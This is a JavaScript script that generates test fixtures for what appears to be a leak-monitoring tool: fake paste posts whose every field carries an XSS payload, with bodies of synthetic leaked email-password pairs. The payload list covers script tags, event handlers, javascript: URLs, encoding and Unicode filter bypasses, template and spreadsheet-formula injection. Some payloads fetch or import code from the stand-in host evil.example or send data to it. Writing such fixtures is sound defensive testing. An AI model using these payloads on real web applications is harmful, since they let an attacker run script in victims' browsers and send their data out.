// texts.mjs - posts with a hostile text of ours in every field, a line of JSON each; each is a finding, for it leaks of example.com
// usage: node texts.mjs >posts.jsonl
const acts = [
	'alert(1)', 'confirm(1)', 'prompt(1)', 'print()', 'top.location="https://evil.example/"', 'open("https://evil.example/")',
	'document.title="taken"', 'fetch("https://evil.example/")', 'import("https://evil.example/x.js")', 'throw 1',
]
// %s is what would be done.
const texts = [
	'<script>%s</script>', '<ScRiPt>%s</sCrIpT >', '</title><script>%s</script>', '</style><script>%s</script>', '</script><script>%s</script>',
	'</template><script>%s</script>', '"><script>%s</script>', "'><script>%s</script>", '--><script>%s</script>', ']]><script>%s</script>',
	'<img src=x onerror=%s>', '"><img src=x onerror=%s>', '<svg onload=%s>', '<svg><script>%s</script></svg>', '<svg><a xlink:href="javascript:%s"><text y=20>x</text></a></svg>',
	'<svg><animate onbegin=%s attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=%s>#x">', '<math><mtext></form><form><mglyph><style></math><img src onerror=%s>',
	'<body onload=%s>', '<details open ontoggle=%s>', '<input autofocus onfocus=%s>', '" autofocus onfocus=%s x="', "' onmouseover=%s '", '<video><source onerror=%s>',
	'<iframe src="javascript:%s"></iframe>', '<iframe srcdoc="<script>%s</script>"></iframe>', '<a href="javascript:%s">x</a>', 'javascript:%s', 'data:text/html,<script>%s</script>',
	'<base href="https://evil.example/"><script src=x>%s</script>', '<meta http-equiv="refresh" content="0;url=javascript:%s">', '<object data="javascript:%s"></object>',
	'<style>@import "https://evil.example/"; * { background: url(https://evil.example/?%s) }</style>', '<link rel=stylesheet href="https://evil.example/?%s">', '<form action="javascript:%s"><button autofocus>x',
	'&lt;script&gt;%s&lt;/script&gt;', '&#60;script&#62;%s&#60;/script&#62;', '&#x3c;script&#x3e;%s', '\\u003cscript\\u003e%s\\u003c/script\\u003e', '%3Cscript%3E%s%3C/script%3E',
	'<scr\u0000ipt>%s</script>', '\u0000<script>%s</script>', '<\u200bscript>%s</script>', '\u202e<script>%s</script>\u202c', '\u2066<script>%s\u2069</script>', '\ufeff<script>%s</script>',
	'\ufffe\uffff<script>%s</script>', '\u001b]0;%s\u0007<script>', '\uff1cscript\uff1e%s\uff1c/script\uff1e', '+ADw-script+AD4-%s+ADw-/script+AD4-', '<!--[if IE]><script>%s</script><![endif]-->',
	'<noscript><p title="</noscript><img src=x onerror=%s>">', '<table><td><script>%s</script>', '</bdi></td></table></main><script>%s</script>', '{{constructor.constructor("%s")()}}', '${%s}', '=HYPERLINK("https://evil.example/?%s")',
]
const long = 'W'.repeat(5000), others = [
	'\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd', '\u0645\u0631\u062d\u0628\u0627 123 (abc)', '\u4f60\u597d\uff0c\u4e16\u754c'.repeat(60), 'Z\u0351\u036b\u0343'.repeat(80), '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67'.repeat(20), long, long + '<script>alert(1)</script>', ' ', '\n\n', '-', '.',
]
const all = [...others, ...acts.flatMap(act => texts.map(text => text.replace('%s', act)))]
const escaped = text => text.replace(/[&<>]/g, c => `&#${c.charCodeAt(0)};`) // a text with tags is read as HTML
const post = (key, text, said) => console.log(JSON.stringify({
	key: `${key} ${text}`.slice(0, 200), title: text, author: text, url: `https://paste.example/${key}?${text}`, date: '2026-11-23T09:38:00Z', text: said,
}))
all.forEach((text, n) => post(n, text, `<p>${escaped(text)}</p><p>projection${n}@example.com:Balcony#77${n}</p><p>foley${n}@example.com:Gravel_44${n}</p><p>${escaped(text)}</p>`))
// One text at two places: a campaign.
const said = [...Array(60).keys()].map(n => `<p>reel${n}@example.com:Curtain+${n * 7919 % 1000}</p>`).join('')
for (const key of ['first', 'second']) post(key, `</title><script>alert("${key}")</script>`, said)
